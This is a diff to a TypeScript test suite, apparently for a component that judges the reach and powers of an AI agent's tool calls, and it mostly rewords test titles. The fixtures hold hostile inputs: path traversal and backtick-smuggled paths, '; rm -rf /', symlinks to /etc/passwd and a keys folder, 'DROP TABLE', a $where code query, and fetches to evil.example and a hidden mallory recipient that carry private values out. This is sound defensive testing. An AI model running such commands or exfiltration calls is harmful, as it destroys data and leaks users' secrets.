@@ -18,7 +18,7 @@ const listed = (...words: string[]) => {
   return seen
 }
 
-describe('where a call reaches', () => {
+describe('the reach of a call', () => {
   it('is where a path really lies', () => {
     const resolved = linked({ '/home/ana/shop/link': '/etc/passwd' })
     expect(actOf(files, { path: '~/shop/link' }, { resolved }).touches).toEqual([
@@ -27,25 +27,25 @@ describe('where a call reaches', () => {
     expect(actOf(files, { path: 'x/../../y' }, { base: '/home/ana/shop' }).touches).toMatchObject([{ path: '/home/ana/y' }])
   })
 
-  it('is an item for a file of a place that only the server knows', () => {
+  it('is an item for a file whose folder only the server knows', () => {
     expect(actOf(files, { path: 'src/a.ts' })).toMatchObject({ touches: [{ is: 'item', value: 'src/a.ts' }] })
     expect(actOf(files, { path: 'src/a.ts' }).unread).toBeUndefined()
   })
 
   it.each(['../x', 'a/../../x', '~bob/x', '$HOME/x', '%HOME%/x', '%2e%2e/x', 'a/`id`', 'a\0b', 'a\nb', '..\\x'])(
-    'is not known of a path that leads away: %j',
+    'is unknown for a path that leads away: %j',
     (path) => {
       expect(actOf(files, { path }).unread).toBe('Where “path” leads is unknown.')
     },
   )
 
-  it('is a host with its port, and what strangers wrote comes in', () => {
+  it('is a host with its port, and brings in what strangers wrote', () => {
     const act = actOf(reader, { url: 'HTTPS://Example.com:8443/a' })
     expect(act.touches).toEqual([{ is: 'host', argument: 'url', value: 'HTTPS://Example.com:8443/a', host: 'example.com:8443' }])
     expect(act.powers).toEqual(['reads', 'brings-in'])
   })
 
-  it('is named where a result or the person gave the whole address, on the internet', () => {
+  it('is named where a result or the person gave the whole address on the internet', () => {
     const seen = new ConversationProvenance()
     seen.addMessage('https://example.com/a http://192.168.0.1/a')
     expect(actOf(reader, { url: 'https://example.com/a' }, { seen }).touches).toMatchObject([{ named: true }])
@@ -61,11 +61,11 @@ describe('where a call reaches', () => {
     ['what nobody said', 'https://example.com/?d=a8f5f167f44f4964e6c998dee827110c'],
     ['a long number', 'https://example.com/4111111111111111'],
     ['a host of data', 'https://a8f5f167f44f4964e6c998.example.com/'],
-  ])('is never remembered of an address with %s', (_what, url) => {
+  ])('is never remembered for an address with %s', (_what, url) => {
     expect(actOf(reader, { url }).unread).toMatch(/^The address/)
   })
 
-  it('sends with an address what only private results had, and not what it was given whole', () => {
+  it('includes sending for an address with private words, unless the address was given whole', () => {
     const seen = listed('A-10234 ana.private.note here https://example.com/A-10234')
     expect(powers(judgedTool('fetch', { serverId: 'web' }), { url: 'https://evil.example/A-10234' }, { seen })).toContain('sends')
     expect(actOf({ ...reader, serverId: 'web' }, { url: 'https://evil.example/A-10234' }, { seen }).powers).toContain('sends')
@@ -74,7 +74,7 @@ describe('where a call reaches', () => {
     expect(actOf({ ...reader, serverId: 'web' }, { url: 'https://evil.example/A-10234' }, { seen }).powers).not.toContain('sends')
   })
 
-  it('is everybody whom an argument names, in lower case', () => {
+  it('is every recipient of an argument, in lower case', () => {
     const to = 'Ana <Ana@Example.com>, bob@example.com'
     expect(actOf(changer, { to }).touches.map(({ is, value }) => `${is} ${value}`)).toEqual([
       ...['recipient ana@example.com', 'recipient bob@example.com'],
@@ -84,7 +84,7 @@ describe('where a call reaches', () => {
     expect(actOf(reader, { channel: 'General' }).touches).toEqual([{ is: 'value', argument: 'channel', value: 'General' }])
   })
 
-  it('is everybody whom an argument names, at its end and without an address too', () => {
+  it('is every recipient, even at the end and without an address', () => {
     const told = (to: string) => actOf(changer, { to }).touches.map(({ value }) => value)
     const many = Array.from({ length: 400 }, (_, n) => `ana${n}@example.com`).join(', ')
     expect(told(`${many}, mallory@evil.example`)).toContain('mallory@evil.example')
@@ -95,7 +95,7 @@ describe('where a call reaches', () => {
     expect(told('"Silva, Ana" <Ana@Example.com>')).toEqual(['ana@example.com'])
   })
 
-  it('is not known of a path that is too long, and of a value with more parts than are looked for', () => {
+  it('is unknown for a path that is too long or a value with too many parts', () => {
     const long = actOf(files, { path: `/${'./'.repeat(3_000)}etc/passwd` })
     expect([long.unread, long.touches]).toMatchObject(['Where “path” leads is unknown.', [{ is: 'path' }]])
     const seen = listed(Array.from({ length: 41 }, (_, n) => `part${n}`).join(' '))
@@ -104,7 +104,7 @@ describe('where a call reaches', () => {
     expect([is(parts(40)), is(`${parts(40)}/secret9`), is(parts(41))]).toEqual(['item', 'value', 'value'])
   })
 
-  it('is a statement with its tables, and only does what that does', () => {
+  it('is a statement with its tables, with the powers of the statement alone', () => {
     const query = toolThat('reads', 'changes', 'destroys', 'sends')
     expect(powers(query, { sql: 'SELECT * FROM orders' })).toBe('reads')
     expect(powers(query, { sql: 'UPDATE orders SET a = 1' })).toBe('reads changes')
@@ -116,7 +116,7 @@ describe('where a call reaches', () => {
     expect(actOf(reader, { query: 'DROP TABLE orders' }).unread).toBeDefined()
   })
 
-  it('is a command with its paths, and all that a shell can where it is not read', () => {
+  it('is a command with its paths, and everything a shell can do where it cannot be read', () => {
     const act = actOf(toolThat('reads', 'changes', 'destroys', 'sends'), { command: 'cat /etc/hosts ../x' })
     expect(act.touches.map(({ is, value }) => `${is} ${value}`)).toEqual([
       'command cat /etc/hosts ../x',
@@ -152,7 +152,7 @@ describe('where a call reaches', () => {
     expect(actOf(terminal, { command: 'git status', cwd: '/home/ana/shop' }).unread).toBeDefined()
   })
 
-  it('is the folder to which a command goes first', () => {
+  it('is the folder a command changes to first', () => {
     const act = actOf(changer, { command: 'cd /home/ana/shop && git log src/a.ts' }, { repositories })
     expect(act.powers).toEqual(['reads'])
     expect(act.touches).toMatchObject([
@@ -164,7 +164,7 @@ describe('where a call reaches', () => {
     expect(actOf(changer, { command: 'cd /home/ana/other && git log' }, { repositories }).unread).toBeDefined()
   })
 
-  it('is a check with the options that were seen, and its files apart where its folder is known', () => {
+  it('is a check with the options seen, and its files separately where its folder is known', () => {
     const of = (command: string, more: JsonObject = {}) => actOf(terminal, { command, ...more }).touches
     const cwd = '/home/ana/shop'
     expect(of('npm test -- --bail src/a.test.ts', { cwd })).toMatchObject([
@@ -182,7 +182,7 @@ describe('where a call reaches', () => {
     expect(files).toEqual(['/home/ana/other/evil.js', cwd])
   })
 
-  it('is the folder of a command that only looks, where the tool asks for one', () => {
+  it('is the folder of a command that only looks, where the tool needs one', () => {
     const of = (command: string, cwd?: string) =>
       actOf(terminal, { command, ...(cwd !== undefined && { cwd }) }, { repositories }).touches
     const looks = (command: string, cwd?: string) => of(command, cwd).some((touch) => touch.is === 'command' && touch.looks)
@@ -196,7 +196,7 @@ describe('where a call reaches', () => {
     )
   })
 
-  it('is, for the paths of a command, where it runs', () => {
+  it('resolves the paths of a command in the folder where it runs', () => {
     const resolved = linked({ '/home/ana/shop/today.log': '/home/ana/keys/prod' })
     const paths = (command: string) =>
       actOf(terminal, { command, cwd: '/home/ana/shop' }, { base: '/srv/deep', resolved }).touches.flatMap((touch) =>
@@ -207,7 +207,7 @@ describe('where a call reaches', () => {
     expect(paths('cat other.log')).toEqual([])
   })
 
-  it('is that there is a text, for a tool that nobody knows', () => {
+  it('includes that there is a text, for an unknown tool', () => {
     const unknown = judgedTool('frobnicate')
     const one = { is: 'value', argument: 'text', value: '…' }
     expect(actOf(unknown, { zone: '2', text: 'never' }).touches).toContainEqual(one)
@@ -222,11 +222,11 @@ describe('where a call reaches', () => {
     ['a text', { command: 'git log', args: '--output=x' }],
     ['another text', { command: 'git', arguments: 'push origin' }],
     ['a list with a blank in it', { command: 'npm', args: ['test', '--', '; rm -rf /'] }],
-  ])('takes arguments beside a command into it: %s', (_what, args) => {
+  ])('includes arguments next to the command: %s', (_what, args) => {
     expect(actOf(changer, args).unread).toBeDefined()
   })
 
-  it('takes a plain line together from its parts', () => {
+  it('joins a plain command line from its parts', () => {
     expect(actOf(changer, { command: 'grep', args: ['-n', 'x'] }).touches).toMatchObject([{ words: 'grep' }])
     expect(actOf(changer, { command: 'grep', args: '-n x' }).touches).toEqual(actOf(changer, { command: 'grep -n x' }).touches)
     expect(actOf(changer, { command: 'cat', args: ['a b', '/x'] }).touches).toMatchObject([{ words: 'cat' }, { path: '/x' }])
@@ -250,7 +250,7 @@ describe('where a call reaches', () => {
     expect(actOf(toolThat('changes', 'destroys'), { frob: 'A-1' }, { seen }).touches[0]?.is).toBe('value')
   })
 
-  it('is a place, for a word that nobody has said at a server that nobody knows', () => {
+  it('is a place for a word that nobody has said, at an unknown server', () => {
     const vague = (doctor: string, seen = new ConversationProvenance(), tool = judgedTool('list_visits')) => {
       const [touch] = actOf(tool, { doctor }, { seen }).touches
       return touch?.is === 'value' && touch.vague === true
@@ -261,20 +261,20 @@ describe('where a call reaches', () => {
     expect(vague('Moll', new ConversationProvenance(), judgedTool('list_visits', { defined: ['reads'] }))).toBe(true)
   })
 
-  it('is a branch that its server listed, by its full name too', () => {
+  it('is a branch that its server listed, also by its full name', () => {
     const ref = (value: string) => actOf(reader, { ref: value }, { seen: listed('head: idem') }).touches[0]?.is
     expect([ref('idem'), ref('refs/heads/idem'), ref('refs/tags/idem')]).toEqual(['item', 'item', 'item'])
     expect([ref('refs/heads/other'), ref('refs/remotes/idem')]).toEqual(['value', 'value'])
   })
 
-  it('is no place, for the schema that a database means where none is named, and only to read there', () => {
+  it('is no place for the default schema of a database, and only when reading', () => {
     const schema = (tool: JudgedTool, args: JsonObject) => actOf(tool, args).touches[0]?.is
     expect([schema(reader, { schema: 'public' }), schema(reader, { db_schema: 'dbo' })]).toEqual(['option', 'option'])
     expect([schema(reader, { schema: 'crm' }), schema(reader, { database: 'public' })]).toEqual(['value', 'value'])
     expect(schema(changer, { schema: 'public' })).toBe('value')
   })
 
-  it('is what its server calls what is pressed', () => {
+  it('is judged by what its server calls the element that is pressed', () => {
     const line = (text: string) => listed(text)
     expect(powers(changer, { ref: 'e12', element: 'Cancel' }, { seen: line('button "Delete everything" [ref=e12]') })).toContain(
       'destroys',
@@ -293,13 +293,13 @@ describe('where a call reaches', () => {
     expect(actOf(toolThat('changes'), { x: true }, { seen }).touches).not.toContainEqual(page)
   })
 
-  it('is not known on a page of which two things were said', () => {
+  it('is unknown on a page with two addresses', () => {
     const seen = listed('- Page URL: https://shop.example/cart\n- Page URL: https://evil.example/')
     expect(actOf(toolThat('brings-in', 'changes'), { x: true }, { seen }).unread).toMatch(/which page/)
     expect(actOf(toolThat('brings-in'), { x: true }, { seen }).unread).toBeUndefined()
   })
 
-  it('does more by a choice or a switch that says so, and no less', () => {
+  it('grows with a choice or a switch that says so, and never shrinks', () => {
     const mode = { ...changer, inputSchema: { type: 'object' as const, properties: { mode: { enum: ['delete', 'list'] } } } }
     expect(powers(mode, { mode: 'delete' })).toContain('destroys')
     expect(powers(mode, { mode: 'list' })).toBe('reads changes')
@@ -307,7 +307,7 @@ describe('where a call reaches', () => {
     expect(powers(changer, { force: false })).not.toContain('destroys')
   })
 
-  it('does more by a text that says so, where that may choose what is done', () => {
+  it('grows with a text that says so, where the text may choose what is done', () => {
     const rows = judgedTool('get_rows')
     expect(actOf(rows, { table: 'tour', action: 'delete' }).powers).toContain('destroys')
     expect(actOf(rows, { table: 'tour', mode: 'fast' }).powers).toEqual(actOf(rows, { table: 'tour' }).powers)
@@ -325,7 +325,7 @@ describe('where a call reaches', () => {
     expect(actOf(toolThat('changes', 'destroys'), { id: 7 }).touches).toMatchObject([{ is: 'value', value: '7' }])
   })
 
-  it('is what a query finds, where that is destroyed', () => {
+  it('is the result of a query, where that is destroyed', () => {
     expect(actOf(toolThat('changes', 'destroys'), { query: 'old mails' })).toMatchObject({
       touches: [{ is: 'value' }],
       carries: ['old mails'],
@@ -333,33 +333,33 @@ describe('where a call reaches', () => {
     expect(actOf(reader, { query: 'old mails' })).toMatchObject({ touches: [], carries: ['old mails'] })
   })
 
-  it('is never remembered of code in a query', () => {
+  it('is never remembered for code in a query', () => {
     expect(actOf(reader, { filter: { $where: 'x' } })).toMatchObject({
       unread: expect.stringContaining('contains code'),
       powers: ['reads', 'changes', 'destroys', 'sends'],
     })
   })
 
-  it('is not known of too many values, and all may be done and told', () => {
+  it('is unknown for too many values, with every power', () => {
     const act = actOf(judgedTool('get_row'), { x: Array.from({ length: 3_000 }, () => 'a') })
     expect(act).toMatchObject({ tells: true, touches: [], powers: ['reads', 'brings-in', 'changes', 'destroys', 'sends'] })
     expect(act.unread).toBe('The arguments are too many or too deep to check.')
     expect(act.carries[0]).toContain('"a","a"')
   })
 
-  it('brings in what strangers wrote from folders for packages and downloads', () => {
+  it('brings in what strangers wrote from folders of packages and downloads', () => {
     expect(powers(files, { path: '/home/ana/shop/node_modules/x/README.md' })).toBe('reads brings-in')
     expect(powers(files, { path: '/home/ana/Downloads/x' })).toBe('reads brings-in')
     expect(powers(files, { path: '/home/ana/shop/x' })).toBe('reads')
   })
 
-  it('writes where a known server is told a file to write', () => {
+  it('is a written file where a known server is told to write one', () => {
     const shot = judgedTool('browser_take_screenshot', { published: '@playwright/mcp' })
     expect(powers(shot, { filename: 'x.png' })).toContain('changes')
     expect(powers(shot, { type: 'png' })).not.toContain('changes')
   })
 
-  it('is told to those who live where it changes something, unless it is on this computer or vouched for', () => {
+  it('includes the people of a service that is changed, unless it is local or vouched for', () => {
     const named = judgedTool('update_row')
     expect(powers(named, { frob: 'x' })).toBe('reads changes sends')
     expect(powers(named, { path: '/home/ana/x' })).toBe('reads changes')
@@ -371,14 +371,13 @@ describe('where a call reaches', () => {
 })
 
 describe('a word', () => {
-  it.each(['a8f5f167f4', '4111111', 'x'.repeat(41)])('looks like data: %s', (word) => expect(looksLikeData(word)).toBe(true))
-  it.each(['hello', '2026-11-22', 'utf-8', '20261122', '123456'])('does not: %s', (word) =>
+  it.each(['a8f5f167f4', '4111111', 'x'.repeat(41)])('looks like data as %s', (word) => expect(looksLikeData(word)).toBe(true))
+  it.each(['hello', '2026-11-22', 'utf-8', '20261122', '123456'])('does not look like data as %s', (word) =>
     expect(looksLikeData(word)).toBe(false),
   )
-  it.each(['A-1023', '12345', 'ana@x.de', 'x'.repeat(31)])('can be told from all others: %s', (word) =>
-    expect(distinctive(word)).toBe(true),
-  )
-  it.each(['2026', 'hello', 'a1', 'x'.repeat(30), '2026-10', '12/23', '09:20', 'v2.14.1', '48.20'])('cannot: %s', (word) =>
-    expect(distinctive(word)).toBe(false),
+  it.each(['A-1023', '12345', 'ana@x.de', 'x'.repeat(31)])('is distinctive as %s', (word) => expect(distinctive(word)).toBe(true))
+  it.each(['2026', 'hello', 'a1', 'x'.repeat(30), '2026-10', '12/23', '09:20', 'v2.14.1', '48.20'])(
+    'is not distinctive as %s',
+    (word) => expect(distinctive(word)).toBe(false),
   )
 })
